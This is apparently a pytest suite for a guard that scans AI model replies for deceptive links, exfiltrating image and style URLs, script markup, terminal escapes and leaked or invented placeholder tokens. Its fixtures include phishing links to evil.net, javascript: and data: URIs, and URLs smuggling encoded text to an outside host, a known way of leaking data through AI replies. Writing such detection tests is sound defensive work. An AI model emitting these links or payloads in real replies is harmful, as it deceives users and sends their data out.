"""What a reader of a reply is told."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maskwell.detection import Finding
from maskwell.entity_types import EntityType
from maskwell.guard import Kind, ReplyReport, inspect_reply


def kinds(report: ReplyReport, least: float = 0.5) -> set[Kind]:
    return {one.kind for one in report.warnings if one.score >= least}


def finding(text: str, value: str, entity_type: EntityType = EntityType.EMAIL) -> Finding:
    start = text.index(value)
    return Finding(
        entity_type=entity_type, start=start, end=start + len(value), score=0.9, recognizer="email"
    )


DECEIVING = [
    ("another host than shown", "[www.mybank.example](https://collect.example.net/login)"),
    ("another host than shown, with path", "[https://mybank.com/a](http://mybank.com.evil.net/a)"),
    ("another host in HTML", '<a href="https://evil.net">https://mybank.com</a>'),
    ("another host in a reference", "[mybank.com][1]\n\n[1]: https://evil.net/x"),
    ("punycode", "[our page](https://xn--mybnk-3ve.example/)"),
    ("look-alike letters", "[our page](https://myb\u0430nk.com/)"),
    ("a name before an @", "[sign in](https://mybank.com@evil.net/)"),
    ("javascript", "[more](javascript:alert(1))"),
    ("javascript in disguise", "[more](JavaScript&#58;alert(1))"),
    ("javascript with a tab in it", '<a href="java\tscript:alert(1)">more</a>'),
    ("data", "[more](data:text/html;base64,PHNjcmlwdD4=)"),
    ("vbscript", "[more](vbscript:msgbox)"),
    ("a bare address", "<https://203.0.113.9/x>"),
    ("a number for a host", "[more](http://3405803785/x)"),
]


@pytest.mark.parametrize("text", [row[1] for row in DECEIVING], ids=[row[0] for row in DECEIVING])
def test_a_deceiving_link_is_told(text: str) -> None:
    report = inspect_reply(f"Look here: {text} and so on.")

    assert Kind.LINK in kinds(report)


HONEST = [
    "[our page](https://mybank.com/a)",
    "[www.mybank.com](https://mybank.com/welcome)",
    "[https://docs.mybank.co.uk](https://www.mybank.co.uk/docs)",
    "[README.md](https://code.example/project/README.md)",
    "See https://en.example.org/wiki/Hat_(garment), for instance.",
    "[mail us](mailto:help@example.com)",
    "<https://example.org/path?page=2&sort=up#top>",
    "https://video.example/watch?v=dQw4w9WgXcQ",
    "Use `a[0](x)` to call it.",
]


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_link_is_left_alone(text: str) -> None:
    assert kinds(inspect_reply(text)) == set()


def test_every_link_comes_with_its_real_target() -> None:
    text = (
        "[one](https://a.example/1) ![two](https://b.example/2.png) <https://c.example/3> "
        'https://d.example/4. <a href="https://e.example/5?x=1&amp;y=2">five</a> [six][s]\n\n'
        "[s]: https://f.example/6"
    )

    report = inspect_reply(text)

    shown = [(link.label, link.target) for link in report.links]
    assert shown == [
        ("one", "https://a.example/1"),
        ("two", "https://b.example/2.png"),
        ("https://c.example/3", "https://c.example/3"),
        ("https://d.example/4", "https://d.example/4"),
        ("five", "https://e.example/5?x=1&y=2"),
        ("six", "https://f.example/6"),
        ("https://f.example/6", "https://f.example/6"),
    ]


def test_a_picture_inside_a_link_gives_both_targets() -> None:
    report = inspect_reply("[![alt](https://img.example/x.png)](https://page.example/)")

    assert [(one.target, one.is_image) for one in report.links] == [
        ("https://page.example/", False),
        ("https://img.example/x.png", True),
    ]


def test_a_picture_is_told_and_is_not_an_alarm() -> None:
    report = inspect_reply("![a cat](https://img.example/cat.png)")

    assert [(one.kind, one.score < 0.5) for one in report.warnings] == [(Kind.IMAGE, True)]


WORDS = "the patient has asked for a second opinion"
CARRYING = [
    ("a token", "![x](https://c.example/p?u=[PERSON_7QX])"),
    ("an escaped token", "https://c.example/p?u=%5BPERSON_7QX%5D"),
    ("a token in the path", "[go](https://c.example/PERSON_7QX/a)"),
    ("encoded words", f"[go](https://c.example/?d={base64.b64encode(WORDS.encode()).decode()})"),
    ("encoded words in the host", f"https://{WORDS[:20].encode().hex()}.c.example/"),
    ("hexadecimal words", f"![x](https://c.example/i.png?d={WORDS.encode().hex()})"),
    ("sentences", f"[go](https://c.example/?d={(WORDS + ' ' + WORDS).replace(' ', '%20')})"),
    ("a picture with a value", "![x](https://c.example/i.png?d=Orla-Finnegan-lives-in-Galway)"),
    ("a picture in HTML", f'<img src="https://c.example/i?d={WORDS.replace(" ", "+")}">'),
    ("a style", f'<p style="background:url(https://c.example/i?d={WORDS.encode().hex()})">'),
]  # fmt: skip


@pytest.mark.parametrize("text", [row[1] for row in CARRYING], ids=[row[0] for row in CARRYING])
def test_an_address_that_carries_text_away_is_told(text: str) -> None:
    report = inspect_reply(f"Done. {text}")

    assert Kind.EXFILTRATION in kinds(report)


@pytest.mark.parametrize(
    "text",
    ["<script>x()</script>", "<iframe src=x></iframe>", "<img src=x onerror='x()'>", "<form>"],
)
def test_markup_that_runs_or_loads_is_told(text: str) -> None:
    assert Kind.HTML in kinds(inspect_reply(text))


def test_generic_types_in_code_are_no_markup() -> None:
    report = inspect_reply("Vec<String> and List<Map<K, V>> hold; a < b and c > d.")

    assert report.warnings == ()


def test_terminal_escapes_are_told() -> None:
    assert Kind.CONTROL in kinds(inspect_reply("fine\x1b]52;c;aGk=\x07"))


def test_a_private_looking_value_is_called_the_models_own() -> None:
    text = "Write to nobody.inparticular@example.com about it."

    report = inspect_reply(text, findings=[finding(text, "nobody.inparticular@example.com")])

    assert [(one.kind, one.start, one.end) for one in report.warnings] == [
        (Kind.PRIVATE_VALUE, 9, 40)
    ]


def test_a_value_that_restoring_put_there_is_the_users() -> None:
    text = "Write to orla.finnegan@example.com about it."
    ours = finding(text, "orla.finnegan@example.com")

    report = inspect_reply(text, findings=[ours], restored_spans=[(ours.start, ours.end)])

    assert report.warnings == ()


def test_an_invented_token_is_told_at_every_place() -> None:
    text = "[PERSON_7QX] knows [PERSON_9ZZ] and [PERSON_9ZZ:last]."

    report = inspect_reply(text, unknown=["[PERSON_9ZZ]", "[PERSON_9ZZ:last]"])

    assert [text[one.start : one.end] for one in report.warnings] == ["PERSON_9ZZ", "PERSON_9ZZ"]
    assert kinds(report) == {Kind.INVENTED_TOKEN}


def test_a_token_of_another_scope_is_told_even_without_a_place() -> None:
    report = inspect_reply("person 4bk says hello", foreign=["[PERSON_4BK]"])

    assert [(one.kind, one.start, one.end) for one in report.warnings] == [
        (Kind.FOREIGN_TOKEN, 0, 0)
    ]


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=12),
            st.sampled_from(
                ["[", "](", ")", "!", "<", ">", "<a href=", "'", '"', "http://", "[1]: ", "\n", "@",
                 "[::1", "%", "xn--", "data:", "<!--", "\ud800", "\x1b", ":99999999"]
            ),
        ),
        max_size=30,
    ).map("".join)
)  # fmt: skip
def test_any_reply_gives_a_report_with_places_inside_it(text: str) -> None:
    report = inspect_reply(text, unknown=["[PERSON_9ZZ]"])

    for one in (*report.warnings, *report.links):
        assert 0 <= one.start <= one.end <= len(text)
    assert all(0 <= one.score <= 1 for one in report.warnings)
